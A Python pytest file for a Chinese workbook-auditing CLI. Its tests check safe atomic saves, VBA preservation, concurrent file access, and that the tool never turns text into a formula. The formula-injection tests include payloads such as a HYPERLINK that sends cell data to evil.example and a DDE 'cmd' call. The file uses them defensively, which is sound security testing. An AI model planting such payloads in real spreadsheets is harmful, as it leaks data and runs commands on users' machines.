"""Writes that cannot lose data, text that never turns into a formula, and concurrent use.

The failing saves are made to fail inside the libraries (openpyxl's zip writer,
os.replace), never by replacing our own code.
"""
from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import fixtures_rich as F
import openpyxl
import pytest
from click.testing import CliRunner
from conftest import needs_soffice, sample_path
from helpers import cell_snapshot
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from juesuan.cli import main
from juesuan.domain.catalog import load_catalog
from juesuan.domain.errors import UnusableWorkbook, WriteRefused
from juesuan.io import fast_reader
from juesuan.io.reader import read_report
from juesuan.io.review_xlsx import clear_marks, fill_to_text, previous_review
from juesuan.io.safety import CHANGED
from juesuan.ops import check_book, save_review
from juesuan.views.review import FIRST_ROW, MARK_COLUMNS

CATALOG = load_catalog()

REVIEW = "审核结果"


def check(*args):
    return CliRunner().invoke(main, ["check", *map(str, args)])


def temp_files(folder: Path) -> list[str]:
    return [p.name for p in folder.iterdir() if p.name.startswith(".~juesuan-")]


# --- a save that fails half-way ---------------------------------------------------------------
def _fail_after(monkeypatch, count: int, error: BaseException):
    real = zipfile.ZipFile.writestr
    calls = {"n": 0}

    def writestr(self, *args, **kwargs):
        calls["n"] += 1
        if calls["n"] > count:
            raise error
        return real(self, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "writestr", writestr)
    return calls


@pytest.mark.parametrize("error", [OSError(28, "No space left on device"), MemoryError()])
def test_save_failing_half_way_leaves_the_original(tmp_path, monkeypatch, error):
    path = F.copy_sample(tmp_path / "单位.xlsx")
    before = F.sha256(path)
    calls = _fail_after(monkeypatch, 6, error)
    result = check(path, "--write")
    assert calls["n"] > 6                       # the save really started writing, then broke
    assert result.exit_code == 2, result.output
    assert "保存失败" in result.output and "原文件未被修改" in result.output
    assert F.sha256(path) == before
    assert temp_files(tmp_path) == []
    monkeypatch.undo()
    assert check(path).exit_code in (0, 1)      # and it is still a good workbook


def test_interrupt_during_save_leaves_the_original(tmp_path, monkeypatch):
    path = F.copy_sample(tmp_path / "单位.xlsx")
    before = F.sha256(path)
    result = check_book(path, CATALOG)
    _fail_after(monkeypatch, 4, KeyboardInterrupt())
    with pytest.raises(KeyboardInterrupt):
        save_review(result, path)
    assert F.sha256(path) == before
    assert temp_files(tmp_path) == []


def test_replace_refused_by_the_system(tmp_path, monkeypatch):
    """Windows refuses os.replace while Excel holds the file: a Chinese message, nothing lost."""
    path = F.copy_sample(tmp_path / "单位.xlsx")
    before = F.sha256(path)

    def refuse(src, dst):
        raise PermissionError(13, "The process cannot access the file because it is being used by another process")

    monkeypatch.setattr(os, "replace", refuse)
    result = check(path, "--write")
    assert result.exit_code == 2
    assert "占用" in result.output and "-o" in result.output
    assert F.sha256(path) == before
    assert temp_files(tmp_path) == []


def test_successful_write_replaces_in_one_step(tmp_path):
    path = F.copy_sample(tmp_path / "单位.xlsx")
    os.chmod(path, 0o640)
    inode = os.stat(path).st_ino
    assert check(path, "--write").exit_code in (0, 1)
    assert os.stat(path).st_ino != inode                 # a new file moved over the old one
    assert os.stat(path).st_mode & 0o777 == 0o640        # with the original's permissions
    assert temp_files(tmp_path) == []
    assert REVIEW in openpyxl.load_workbook(path, read_only=True).sheetnames


def test_write_through_a_symlink_keeps_the_link(tmp_path):
    real = F.copy_sample(tmp_path / "真实.xlsx")
    link = tmp_path / "链接.xlsx"
    link.symlink_to(real)
    assert check(link, "--write").exit_code in (0, 1)
    assert link.is_symlink()
    assert REVIEW in openpyxl.load_workbook(real, read_only=True).sheetnames


# --- macros ------------------------------------------------------------------------------------
def test_xlsm_keeps_its_vba_project(tmp_path):
    book = F.make_macro_enabled(sample_path(F.BASE), tmp_path / "带宏.xlsm")
    vba = F.vba_project()
    assert check(book, "--write").exit_code in (0, 1)
    with zipfile.ZipFile(book) as archive:
        assert archive.read("xl/vbaProject.bin") == vba
        types = archive.read("[Content_Types].xml").decode()
        rels = archive.read("xl/_rels/workbook.xml.rels").decode()
    assert "macroEnabled.main+xml" in types
    assert "vbaProject" in rels
    assert REVIEW in openpyxl.load_workbook(book, read_only=True).sheetnames
    # a second run, and a copy, keep it too
    assert check(book, "--write").exit_code in (0, 1)
    copy = tmp_path / "副本.xlsm"
    assert check(book, "-o", copy).exit_code in (0, 1)
    for path in (book, copy):
        with zipfile.ZipFile(path) as archive:
            assert archive.read("xl/vbaProject.bin") == vba


def test_macro_workbook_copy_must_be_xlsm(tmp_path):
    book = F.make_macro_enabled(sample_path(F.BASE), tmp_path / "带宏.xlsm")
    result = check(book, "-o", tmp_path / "副本.xlsx")
    assert result.exit_code == 2 and "含宏" in result.output and ".xlsm" in result.output
    assert not (tmp_path / "副本.xlsx").exists()


# --- content openpyxl would drop --------------------------------------------------------------------
def _refused_in_place_but_copy_works(path: Path, label: str, tmp_path: Path):
    before = F.sha256(path)
    result = check(path, "--write")
    assert result.exit_code == 2, result.output
    assert label in result.output and "-o" in result.output and "不含上述内容" in result.output
    assert F.sha256(path) == before
    copy = tmp_path / "已审核.xlsx"
    result = check(path, "-o", copy)
    assert result.exit_code in (0, 1), result.output
    assert "副本中不含原文件的" in result.output and label in result.output.split("副本中不含原文件的", 1)[1]
    assert F.sha256(path) == before
    assert REVIEW in openpyxl.load_workbook(copy, read_only=True).sheetnames


def test_chart_is_not_lost_in_place(tmp_path):
    path = F.with_chart(tmp_path / "带图表.xlsx")
    with zipfile.ZipFile(path) as archive:
        assert any(n.startswith("xl/charts/") for n in archive.namelist())
    _refused_in_place_but_copy_works(path, "图表", tmp_path)


@pytest.mark.parametrize("label", list(F.DROPPED_PARTS))
def test_parts_openpyxl_drops_are_not_lost_in_place(tmp_path, label):
    path = F.with_parts(tmp_path / "有附加内容.xlsx", F.DROPPED_PARTS[label])
    _refused_in_place_but_copy_works(path, label, tmp_path)


def test_plain_workbook_with_comments_is_written_in_place(tmp_path):
    """Comments live in VML drawings too: those openpyxl keeps, so they must not block writing."""
    path = F.rich_workbook(tmp_path, macro=False)
    assert check(path, "--write").exit_code in (0, 1)


# --- the rich round trip ------------------------------------------------------------------------------
def _book_state(path):
    snap = cell_snapshot(path, {REVIEW}, keep_vba=str(path).endswith(".xlsm"))
    return snap["sheetnames"], snap["names"], snap["sheets"]


def _sheet_tags(path):
    """The child elements of each worksheet's XML, sheet by sheet (what openpyxl might drop unseen)."""
    out = {}
    with zipfile.ZipFile(path) as archive:
        wb = openpyxl.load_workbook(path, read_only=True)
        for index, name in enumerate(wb.sheetnames, start=1):
            if name == REVIEW:
                continue
            xml = archive.read(f"xl/worksheets/sheet{index}.xml").decode()
            out[name] = re.findall(r"<(\w+)[ >/]", xml.split("<sheetData", 1)[0] + xml.split("</sheetData>", 1)[-1])
        wb.close()
    return out


def _results(path):
    """What a reader sees: every cell's value with formulas replaced by their stored results."""
    wb = openpyxl.load_workbook(path, read_only=True, data_only=True)
    out = {ws.title: [tuple(r) for r in ws.iter_rows(values_only=True)] for ws in wb.worksheets if ws.title != REVIEW}
    wb.close()
    return out


def _findings(path):
    return [(f.rule, f.table, f.cell, f.message) for f in check_book(path, CATALOG).findings]


def test_rich_workbook_round_trip_changes_only_our_cells(tmp_path):
    book = F.rich_workbook(tmp_path)
    vba = F.vba_project()
    names_before, defined_before, before = _book_state(book)
    tags_before = _sheet_tags(book)
    results_before, findings_before = _results(book), _findings(book)
    assert results_before["填报说明"][2][2] == "李四（已核）" and results_before["填报说明"][4][2] == "#DIV/0!"
    result = check(book, "--write")
    assert result.exit_code in (0, 1), result.output
    # formula results survive (openpyxl alone drops them): the next check reads the same numbers
    assert _results(book) == results_before
    assert _findings(book) == findings_before
    names_after, defined_after, after = _book_state(book)
    # the sheets, in order, with 审核结果 where it was
    assert [n for n in names_after if n != REVIEW] == [n for n in names_before if n != REVIEW]
    assert defined_after == defined_before
    marked = {}
    wb = openpyxl.load_workbook(book)
    for row in wb[REVIEW].iter_rows(min_row=FIRST_ROW, values_only=True):
        if len(row) >= MARK_COLUMNS[0] and row[MARK_COLUMNS[0] - 1]:
            sheet, _, address = row[MARK_COLUMNS[0] - 1].rpartition("!")
            marked.setdefault(sheet, set()).add(address)
    assert marked.get("公开01") and "C32" in marked["公开01"] and "B10" in marked["公开02"]
    for sheet in before:
        for key in before[sheet]:
            if key == "fills":
                continue
            assert after[sheet][key] == before[sheet][key], (sheet, key)
        changed = {c for c in before[sheet]["fills"] if after[sheet]["fills"][c] != before[sheet]["fills"][c]}
        assert changed == marked.get(sheet, set()), sheet          # fills change exactly where we mark
    assert _sheet_tags(book) == tags_before
    with zipfile.ZipFile(book) as archive:
        assert archive.read("xl/vbaProject.bin") == vba
    # the original fills are remembered exactly (theme tint, gradient) and put back by the next run
    notes, marks = previous_review(wb)
    clear_marks(wb, marks)
    for sheet, addresses in marked.items():
        for address in addresses:
            assert repr(wb[sheet][address].fill) == before[sheet]["fills"][address], (sheet, address)
    # a second run changes nothing more: same cells, same fills
    assert check(book, "--write").exit_code in (0, 1)
    assert _book_state(book)[2] == after


def test_gradient_and_theme_fills_survive_serialisation():
    from openpyxl.styles import GradientFill, PatternFill
    from openpyxl.styles.colors import Color

    from juesuan.io.review_xlsx import text_to_fill
    for fill in (PatternFill("solid", fgColor=Color(theme=4, tint=0.6)), GradientFill(stop=("FFFFFF", "4472C4")),
                 PatternFill("darkGrid", fgColor="FF0000", bgColor=Color(indexed=64)), PatternFill(fill_type=None)):
        assert repr(text_to_fill(fill_to_text(fill))) == repr(fill)
    assert repr(text_to_fill('{"type": "solid", "ctype": "rgb", "value": "FFFF0000", "tint": 0, "bg": null}')) == \
        repr(PatternFill("solid", fgColor="FFFF0000"))           # what earlier versions wrote
    assert text_to_fill("<garbage").fill_type is None            # a damaged entry does not stop a run


# --- formula injection ------------------------------------------------------------------------------------
INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"点击领取")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3+cmd",
              "=1+1"]


def test_text_from_the_workbook_is_written_as_text(tmp_path):
    wb = openpyxl.load_workbook(sample_path(F.BASE))
    wb["单位信息"]["B3"].value = INJECTIONS[0]
    wb["单位信息"]["B3"].data_type = "s"
    t02 = wb["公开02"]
    for offset, text in enumerate(INJECTIONS[1:4]):
        t02.cell(row=8 + offset, column=2).value = text          # code names quoted in messages (E06)
        t02.cell(row=8 + offset, column=2).data_type = "s"
    path = tmp_path / "注入.xlsx"
    wb.save(path)
    assert check(path, "--write").exit_code in (0, 1)
    # the clerk writes a note that looks like a formula; the next run keeps it as text
    wb = openpyxl.load_workbook(path)
    ws = wb[REVIEW]
    note_row = next(r for r in range(FIRST_ROW, ws.max_row + 1) if ws.cell(row=r, column=3).value == "E06")
    ws.cell(row=note_row, column=10).value = INJECTIONS[4]
    ws.cell(row=note_row, column=10).data_type = "s"
    wb.save(path)
    assert check(path, "--write").exit_code in (0, 1)
    ws = openpyxl.load_workbook(path)[REVIEW]
    written = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    for text in INJECTIONS:
        hits = [c for c in written if text in c.value]
        assert hits, text
        assert all(c.data_type == "s" for c in hits), (text, [(c.coordinate, c.data_type) for c in hits])
    assert any(c.value == INJECTIONS[4] for c in written)           # the note itself, verbatim
    # and nothing in the review is a formula at all
    with zipfile.ZipFile(path) as archive:
        part = F.sheet_part(path, REVIEW)
        assert b"<f>" not in archive.read(part) and b"<f " not in archive.read(part)


def _BASE_GRIDS(cache={}):
    from juesuan.io.reader import read_grids
    if not cache:
        cache.update(read_grids(sample_path(F.BASE)))
    return cache


@settings(max_examples=20, deadline=None, database=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(unit=st.text(max_size=300), name=st.text(min_size=1, max_size=100))
def test_any_text_can_be_written_into_the_review(tmp_path_factory, unit, name):
    """Control characters, any script, any length: the review is written and reads back as text."""
    import io

    from juesuan.domain.schema import SHEET_NAMES
    from juesuan.io.review_xlsx import write_review
    from juesuan.rules.audit import audit
    from juesuan.rules.parse import parse_grids
    from juesuan.views.review import build_review
    grids = {k: list(v) for k, v in _BASE_GRIDS().items()}
    grids["单位信息"][2] = (grids["单位信息"][2][0], unit) + tuple(grids["单位信息"][2][2:])
    row = list(grids["公开02"][9])
    row[1] = name
    grids["公开02"][9] = tuple(row)
    report = parse_grids(grids, "x.xlsx")
    wb = openpyxl.Workbook()                      # the sheets the review links to and marks, without the weight
    wb.active.title = "单位信息"
    for sheet in SHEET_NAMES[1:-1]:
        wb.create_sheet(sheet)
    write_review(wb, build_review(report, audit(report, CATALOG), CATALOG), [])
    buffer = io.BytesIO()
    wb.save(buffer)
    ws = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))[REVIEW]
    for row in ws.iter_rows():
        for c in row:
            if isinstance(c.value, str):
                assert c.data_type == "s" and len(c.value) <= 32767


# --- concurrency ------------------------------------------------------------------------------------------
def test_parallel_writes_on_different_copies(tmp_path):
    a = F.copy_sample(tmp_path / "甲.xlsx", "jinan_lixia_2023")
    b = F.copy_sample(tmp_path / "乙.xlsx", "zibo_zhangdian_2024")
    procs = [subprocess.Popen([sys.executable, "-m", "juesuan.cli", "check", str(p), "--write"],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE) for p in (a, b)]
    outcomes = [p.communicate(timeout=120) + (p.returncode,) for p in procs]
    for out, err, code in outcomes:
        assert code in (0, 1), err.decode()
        assert b"Traceback" not in err
    for path, name in ((a, "jinan_lixia_2023"), (b, "zibo_zhangdian_2024")):
        ws = openpyxl.load_workbook(path, read_only=True)[REVIEW]
        header = next(ws.iter_rows(min_row=2, max_row=2, values_only=True))[0]
        assert read_report(sample_path(name)).unit_name in header
    assert temp_files(tmp_path) == []


REPLACER = r"""
import os, shutil, sys, time
target, first, second, stop = sys.argv[1:5]
i = 0
deadline = time.monotonic() + 60
while not os.path.exists(stop) and time.monotonic() < deadline and i < 20000:
    temp = target + ".part"
    shutil.copyfile(first if i % 2 else second, temp)
    os.replace(temp, target)
    i += 1
print(i)
"""


def test_check_while_another_process_replaces_the_file(tmp_path):
    target = F.copy_sample(tmp_path / "被替换.xlsx")
    stop = tmp_path / "stop"
    replacer = subprocess.Popen([sys.executable, "-c", REPLACER, str(target), str(sample_path("jinan_lixia_2023")),
                                 str(sample_path("zibo_zhangdian_2024")), str(stop)], stdout=subprocess.PIPE)
    outcomes = []
    try:
        time.sleep(0.2)
        for _ in range(15):
            try:
                report = read_report(target)
                outcomes.append(report.unit_name)
            except UnusableWorkbook as exc:
                outcomes.append(exc.message)
    finally:
        stop.touch()
        replaced = int(replacer.communicate(timeout=60)[0] or 0)
    assert replaced > 15
    names = {read_report(sample_path(n)).unit_name for n in ("jinan_lixia_2023", "zibo_zhangdian_2024")}
    assert set(outcomes) <= names | {CHANGED}, set(outcomes) - names
    assert CHANGED in outcomes or len(set(outcomes) & names) >= 1


def test_file_changed_while_being_read_is_unusable(tmp_path, monkeypatch):
    """Deterministic: the file is replaced by a newer version while the reader parses our snapshot."""
    path = F.copy_sample(tmp_path / "正在保存.xlsx")
    real = openpyxl.load_workbook

    def load_while_someone_saves(*args, real=real, **kwargs):
        newer = tmp_path / "newer.xlsx"
        shutil.copy(sample_path("zibo_zhangdian_2024"), newer)
        os.replace(newer, path)
        return real(*args, **kwargs)

    class SavedWhileCalamineReads:      # the fast reader `check` uses parses with python-calamine
        @staticmethod
        def from_filelike(*args, **kwargs):
            return load_while_someone_saves(*args, real=fast_reader.CalamineWorkbook.from_filelike, **kwargs)

    monkeypatch.setattr(openpyxl, "load_workbook", load_while_someone_saves)
    monkeypatch.setattr(fast_reader, "CalamineWorkbook", SavedWhileCalamineReads)
    result = check(path)
    assert result.exit_code == 2
    assert CHANGED in result.output


def test_file_changed_after_check_is_not_overwritten(tmp_path):
    path = F.copy_sample(tmp_path / "单位.xlsx")
    result = check_book(path, CATALOG)
    shutil.copy(sample_path("zibo_zhangdian_2024"), path)        # the clerk saved a new version meanwhile
    clerk = F.sha256(path)
    with pytest.raises(WriteRefused) as refused:
        save_review(result, path)
    assert "审核之后又被修改" in str(refused.value)
    assert F.sha256(path) == clerk


def test_file_saved_by_someone_during_our_write_is_kept(tmp_path, monkeypatch):
    """The clerk saves in Excel while we are writing: their version wins, ours is dropped."""
    path = F.copy_sample(tmp_path / "单位.xlsx")
    real_save = openpyxl.Workbook.save

    def save_while_clerk_saves(self, filename):
        real_save(self, filename)
        shutil.copy(sample_path("zibo_zhangdian_2024"), path)     # lands between our save and our replace

    monkeypatch.setattr(openpyxl.Workbook, "save", save_while_clerk_saves)
    clerk = F.sha256(sample_path("zibo_zhangdian_2024"))
    result = check(path, "--write")
    assert result.exit_code == 2 and "写入期间文件被其他程序修改" in result.output
    assert F.sha256(path) == clerk
    assert temp_files(tmp_path) == []


def test_text_longer_than_excel_allows_is_cut(tmp_path):
    """Excel 'repairs' (empties) a cell over 32,767 characters: the review never writes one."""
    wb = openpyxl.load_workbook(sample_path(F.BASE))
    wb["单位信息"]["B3"].value = "很长的单位名称" * 6000            # 42,000 characters
    path = tmp_path / "长名称.xlsx"
    wb.save(path)
    assert check(path, "--write").exit_code in (0, 1)
    header = openpyxl.load_workbook(path, read_only=True)[REVIEW]["A2"].value
    assert header.startswith("单位：很长的单位名称") and len(header) == 32767


def test_formula_results_are_not_restored_after_values_changed(tmp_path):
    """After fill changed cells, a stored formula result may be stale: it is dropped, and the
    reader reports the formula as uncalculated instead of trusting an old number."""
    from juesuan.io.workbook_file import EditableBook
    book = F.rich_workbook(tmp_path, macro=False)
    wb = EditableBook.open(book)
    wb.write_values([("公开02", "C7", 1)])          # C6 is =SUM(C7:C9): its stored result is now wrong
    wb.save(book)
    assert _results(book)["公开02"][5][2] is None
    bad = [f for f in check_book(book, CATALOG).findings if (f.table, f.cell) == ("公开02", "C6")]
    assert bad and bad[0].rule == "E01" and "未计算的公式" in bad[0].message


@needs_soffice
def test_written_macro_workbook_opens_in_a_spreadsheet_program(tmp_path):
    """LibreOffice opens what we wrote (review, restored formula results, VBA package) and agrees."""
    book = F.rich_workbook(tmp_path)
    assert check(book, "--write").exit_code in (0, 1)
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    out = tmp_path / "out"
    subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--convert-to", "xlsx",
                    "--outdir", str(out), str(book)], capture_output=True, timeout=180)
    converted = openpyxl.load_workbook(out / "rich.xlsx", data_only=True)
    assert REVIEW in converted.sheetnames and "填报说明" in converted.sheetnames
    assert converted[REVIEW]["A2"].value.startswith("单位：济南市历下区")
    ours = openpyxl.load_workbook(book, data_only=True)
    assert ours["公开02"]["C6"].value == converted["公开02"]["C6"].value == 5066.83   # =SUM(C7:C9), stored = recalculated
    assert ours["填报说明"]["C3"].value == converted["填报说明"]["C3"].value == "李四（已核）"
